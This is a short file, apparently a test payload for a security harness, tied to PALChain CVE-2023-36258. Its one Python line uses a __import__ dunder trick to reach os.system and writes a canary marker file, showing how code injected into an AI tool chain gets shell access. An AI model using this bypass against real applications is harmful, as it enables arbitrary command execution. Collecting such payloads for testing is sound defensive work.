# source: PALChain CVE-2023-36258
# effect: process

__import__("os").system("echo imports/dunder_import > /tmp/canary/process")
